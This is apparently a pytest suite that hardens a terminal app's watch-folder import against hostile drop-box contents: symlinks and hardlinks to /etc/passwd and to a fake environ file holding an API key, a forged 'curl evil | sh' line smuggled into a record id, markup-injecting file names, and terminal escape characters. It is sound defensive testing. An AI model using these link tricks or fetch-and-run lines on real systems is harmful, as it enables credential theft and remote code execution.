"""The watch folder is a drop box that other people and systems write to: links and special
files are never followed, writes never go through a planted link, half-written files wait,
error texts quote only short escaped excerpts, and no file name or header is parsed as markup.

The attacks run through the real TUI (`make_app(..., watch=DIR)`, Pilot, real files and a
real SQLite store); the stability rule is also driven directly with a fake clock.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.screens.helpers import build_router, settings_for, wait_until
from tui.app import TriageApp, make_app
from tui.core import registry
from tui.core.store import Store

SIZE = (120, 40)
FAKE_KEY = "sk-test-WATCHFOLDERSECRET0123456789abcdef"


@pytest.fixture(autouse=True)
def hash_backend(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(registry.BUILTIN, "hash", "tests.unit.plugin_backends:HashBackend")


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "inbox.db") as opened:
        yield opened


@pytest.fixture
def drop(tmp_path: Path) -> Path:
    folder = tmp_path / "drop"
    folder.mkdir()
    return folder


def app_watching(store: Store, drop: Path) -> TriageApp:
    settings = settings_for({"hash": {"type": "hash"}})
    return make_app(settings, store, build_router(settings, store), watch=drop)


def toasts(app: TriageApp) -> list[str]:
    """The plain text of every toast on screen, as rendered."""
    return [str(toast.render().plain) for toast in app.screen.query("Toast")]  # type: ignore[attr-defined]


def jsonl(*ids: str) -> str:
    return "".join(json.dumps({"id": i, "text": f"parcel {i} is late"}) + "\n" for i in ids)


def every_text_under(folder: Path, *, besides: Path | None = None) -> str:
    """All regular files' bytes under `folder` (links are not followed), as text."""
    parts = []
    for root, _, files in os.walk(folder):
        for name in files:
            path = Path(root) / name
            if path.is_file() and not path.is_symlink() and path != besides:
                parts.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(parts)


def secret_file(tmp_path: Path) -> Path:
    """A file outside the drop folder shaped like /proc/self/environ, holding an API key."""
    path = tmp_path / "environ"
    path.write_bytes(f"HOME=/home/maria\0OPENAI_API_KEY={FAKE_KEY}\0PATH=/usr/bin\0".encode())
    return path


def plant(kind: str, drop: Path, tmp_path: Path) -> Path:
    if kind == "link-to-secret":
        entry = drop / "env.csv"
        entry.symlink_to(secret_file(tmp_path))
    elif kind == "link-to-passwd":
        entry = drop / "passwd.csv"
        entry.symlink_to("/etc/passwd")
    elif kind == "hardlink-to-secret":
        entry = drop / "hard.csv"
        os.link(secret_file(tmp_path), entry)
    elif kind == "fifo":
        entry = drop / "pipe.jsonl"
        os.mkfifo(entry)
    else:
        entry = drop / "folder.jsonl"
        entry.mkdir()
        (entry / "inside.jsonl").write_text(jsonl("IN-1"))
    return entry


@pytest.mark.parametrize(
    "kind", ["link-to-secret", "link-to-passwd", "hardlink-to-secret", "fifo", "directory"]
)
async def test_links_and_special_files_are_not_taken_and_nothing_is_quoted(
    store: Store, drop: Path, tmp_path: Path, kind: str
) -> None:
    entry = plant(kind, drop, tmp_path)
    (drop / "zz-sentinel.jsonl").write_text(jsonl("S-1"))
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_until(
            pilot, lambda: (drop / "imported" / "zz-sentinel.jsonl").exists(), timeout=15
        )
        await pilot.pause(0.1)
        shown = "\n".join(toasts(app))
    assert os.path.lexists(entry), "the entry was moved or removed"
    assert store.ticket_count() == 1 and store.get_ticket("S-1") is not None
    written = every_text_under(drop, besides=entry)
    passwd_lines = [line for line in Path("/etc/passwd").read_text().splitlines() if line][:3]
    for leaked in (FAKE_KEY, "OPENAI_API_KEY", "HOME=/home/maria", *passwd_lines):
        assert leaked not in written and leaked not in shown
    assert not (drop / "rejected").exists() or not any((drop / "rejected").iterdir())
    if kind != "directory":  # a folder is simply not a ticket file; the others are reported
        assert f"{entry.name}: left alone" in shown


async def test_planted_links_in_imported_and_rejected_are_never_written_through(
    store: Store, drop: Path, tmp_path: Path
) -> None:
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("ORIGINAL\n")
    elsewhere = tmp_path / "elsewhere.jsonl"  # a dangling link's target: must stay absent
    (drop / "rejected").mkdir()
    (drop / "imported").mkdir()
    (drop / "rejected" / "x.jsonl.errors.txt").symlink_to(bashrc)
    (drop / "imported" / "y.jsonl").symlink_to(elsewhere)
    (drop / "rejected" / "x.jsonl").symlink_to(tmp_path / "bashrc-too")
    forged = "FORGED: curl evil | sh"
    (drop / "x.jsonl").write_text(
        json.dumps({"id": f"dup\n{forged}", "text": "first"})
        + "\n"
        + json.dumps({"id": f"dup\n{forged}", "text": "other"})
        + "\nnot json\n"
    )
    (drop / "y.jsonl").write_text(jsonl("Y-1", "Y-2"))
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE) as pilot:
        await wait_until(pilot, lambda: not (drop / "x.jsonl").exists(), timeout=15)
        await wait_until(pilot, lambda: not (drop / "y.jsonl").exists(), timeout=15)
    assert bashrc.read_text() == "ORIGINAL\n"
    assert not elsewhere.exists() and not (tmp_path / "bashrc-too").exists()
    for link in ("rejected/x.jsonl.errors.txt", "imported/y.jsonl", "rejected/x.jsonl"):
        assert (drop / link).is_symlink(), f"{link} was replaced"
    moved_bad = [p for p in (drop / "rejected").iterdir() if not p.is_symlink()]
    report = next(p for p in moved_bad if p.name.endswith(".errors.txt"))
    assert any(p.name.startswith("x-") and p.name.endswith(".jsonl") for p in moved_bad)
    lines = report.read_text().splitlines()
    assert lines and all(line.startswith("x.jsonl:") for line in lines), lines
    assert not any(line.startswith("FORGED") for line in lines)
    moved_good = [p for p in (drop / "imported").iterdir() if not p.is_symlink()]
    assert [p.name.startswith("y-") for p in moved_good] == [True]
    assert store.get_ticket("Y-1") is not None and store.get_ticket("dup") is None


async def test_a_linked_subfolder_is_not_used(store: Store, drop: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (drop / "imported").symlink_to(outside)
    (drop / "a.jsonl").write_text(jsonl("A-1"))
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_until(pilot, lambda: any("stays here" in t for t in toasts(app)), timeout=15)
    assert list(outside.iterdir()) == []
    assert (drop / "a.jsonl").exists() and store.get_ticket("A-1") is not None


async def test_a_long_csv_header_is_never_quoted_whole(
    store: Store, drop: Path, tmp_path: Path
) -> None:
    header = ",".join(["alpha", "beta", "gamma", "delta", f"OPENAI_API_KEY={FAKE_KEY}"])
    (drop / "wide.csv").write_text(header + "\n1,2,3,4,5\n")
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_until(pilot, lambda: (drop / "rejected" / "wide.csv").exists(), timeout=15)
        await wait_until(pilot, lambda: any("wide.csv" in t for t in toasts(app)), timeout=5)
        shown = "\n".join(toasts(app))
    report = (drop / "rejected" / "wide.csv.errors.txt").read_text()
    for text in (report, shown):
        assert FAKE_KEY not in text and "OPENAI_API_KEY" not in text
    assert "no 'text' column" in report and "5 columns, starting 'alpha,beta" in report


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("[reverse]x.jsonl", jsonl("M-1")),
        ("[@click=app.quit]q.jsonl", jsonl("M-2")),
        ("head.csv", "foo [/],bar [bold]\n1,2\n"),
        ("[$accent]z.jsonl", '{"id": "M-3", "text": ""}\n'),
    ],
)
async def test_file_names_and_headers_are_never_markup(
    store: Store, drop: Path, name: str, content: str
) -> None:
    (drop / name).write_text(content)
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await wait_until(pilot, lambda: any(name in t for t in toasts(app)), timeout=15)
        await pilot.pause(0.1)
        shown = "\n".join(toasts(app))
        assert app.is_running
    if name.endswith(".csv"):
        assert "foo [/],bar [bold]" in shown  # shown literally, as the file has it
    else:
        assert f"{name}: " in shown


def test_a_file_still_being_written_waits_then_imports_whole(store: Store, drop: Path) -> None:
    from tui.core.watch_folder import WatchFolder

    now = [0.0]
    watcher = WatchFolder(drop, store, settle_s=2.0, clock=lambda: now[0])
    path = drop / "slow.jsonl"
    lines = jsonl(*(f"W-{i}" for i in range(10))).splitlines(keepends=True)
    path.write_text("".join(lines[:4]))
    for step in range(4, 10):
        assert watcher.poll() == []
        now[0] += 5.0  # long past the settle time, but the file changed in between
        with path.open("a") as handle:
            handle.write(lines[step])
        assert watcher.poll() == [] and store.ticket_count() == 0
    assert not (drop / "imported").exists()
    now[0] += 1.0
    assert watcher.poll() == []  # unchanged for 1 s only
    now[0] += 1.0
    [outcome] = watcher.poll()
    assert (outcome.error, outcome.inserted, outcome.moved_to) == (None, 10, "imported/slow.jsonl")
    assert store.ticket_count() == 10 and not path.exists()


def test_write_then_rename_names_are_never_taken(store: Store, drop: Path) -> None:
    from tui.core.watch_folder import WatchFolder

    now = [0.0]
    watcher = WatchFolder(drop, store, settle_s=1.0, clock=lambda: now[0])
    for name in (".hidden.jsonl", "a.jsonl.part", "b.jsonl.tmp", "c.jsonl.partial"):
        (drop / name).write_text(jsonl(name))
    for _ in range(3):
        assert watcher.poll() == []
        now[0] += 5.0
    assert store.ticket_count() == 0
    (drop / "a.jsonl.part").rename(drop / "a.jsonl")
    watcher.poll()
    now[0] += 1.0
    [outcome] = watcher.poll()
    assert outcome.inserted == 1 and store.ticket_count() == 1


class SlowWriter(threading.Thread):
    """Appends one line every `pause` seconds, as a program exporting into the folder does."""

    def __init__(self, path: Path, lines: list[str], pause: float) -> None:
        super().__init__(daemon=True)
        self.path, self.lines, self.pause = path, lines, pause
        self.done = threading.Event()

    def run(self) -> None:
        with self.path.open("w") as handle:
            for line in self.lines:
                handle.write(line)
                handle.flush()
                time.sleep(self.pause)
        self.done.set()


async def test_a_slowly_written_file_is_imported_whole_by_the_tui(store: Store, drop: Path) -> None:
    ids = [f"SLOW-{i:02d}" for i in range(40)]
    writer = SlowWriter(drop / "export.jsonl", jsonl(*ids).splitlines(keepends=True), 0.05)
    app = app_watching(store, drop)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause(0.2)
        writer.start()
        await wait_until(pilot, writer.done.is_set, timeout=30)
        await wait_until(pilot, lambda: not (drop / "export.jsonl").exists(), timeout=15)
    imported = drop / "imported" / "export.jsonl"
    assert imported.read_text().count("\n") == 40
    assert store.ticket_count() == 40
    assert all(store.get_ticket(i) is not None for i in ids)


async def test_label_and_backend_names_are_never_markup(store: Store) -> None:
    """The same rule beyond the watch folder: the label picker's fuzzy highlight and the
    command palette's backend entries show names as typed (Textual's highlighter parses
    markup, so `[/]` in a label crashed the picker)."""
    from screens.label_picker import LabelPickerModal
    from screens.widgets.ticket_table import TicketTable
    from tests.screens.helpers import LABELS, seed
    from tui.core.config import Settings

    seed(store, 3)
    odd = "odd [/] label"
    settings = Settings.model_validate(
        {
            "labels": {odd: "desc [b]x", **LABELS},
            "routing": {"backend": "[b]fast"},
            "backends": {"[b]fast": {"type": "hash", "name": "[b]fast"}},
        }
    )
    app = make_app(settings, store, build_router(settings, store))
    async with app.run_test(size=SIZE) as pilot:
        table = app.screen.query_one(TicketTable)
        await wait_until(pilot, lambda: table.current is not None)  # `l` labels the selected row
        await pilot.press("l")
        await wait_until(pilot, lambda: isinstance(app.screen, LabelPickerModal))
        await pilot.press(*"odd")
        await pilot.pause(0.1)
        options = app.screen.query_one("#label-options")
        first = options.get_option_at_index(0)  # type: ignore[attr-defined]
        assert str(first.prompt).startswith(odd)
        await pilot.press("escape")
        await pilot.press("ctrl+p")
        await pilot.press(*"fast")
        commands = app.screen.query_one("CommandList")

        def shown() -> list[str]:
            count = commands.option_count  # type: ignore[attr-defined]
            return [str(commands.get_option_at_index(i).prompt) for i in range(count)]  # type: ignore[attr-defined]

        await wait_until(pilot, lambda: any("Use backend: [b]fast" in t for t in shown()))
        assert app.is_running


def test_error_texts_are_one_short_escaped_line() -> None:
    """Where row reasons and file errors are made, whatever a caller puts in them: control
    characters are escaped (no forged report lines, no terminal escapes) and length capped."""
    from tui.core.ingest import IngestError, RowError, parse_bytes

    forged = "id x\nFORGED: run this\x1b[2J" + "y" * 5000
    row = RowError(line=1, reason=forged)
    assert "\n" not in row.reason and "\x1b" not in row.reason and len(row.reason) <= 301
    assert "\\n" in row.reason and "\\x1b" in row.reason
    error = str(IngestError(f"x.csv: {forged}"))
    assert "\n" not in error and "\x1b" not in error and len(error) <= 501
    parsed = parse_bytes(
        json.dumps({"text": "hi", "created_at": "\u202e" + "z" * 500}).encode(), "jsonl"
    )
    [bad] = parsed.errors
    assert "\u202e" not in bad.reason and "\\u202e" in bad.reason and len(bad.reason) < 100
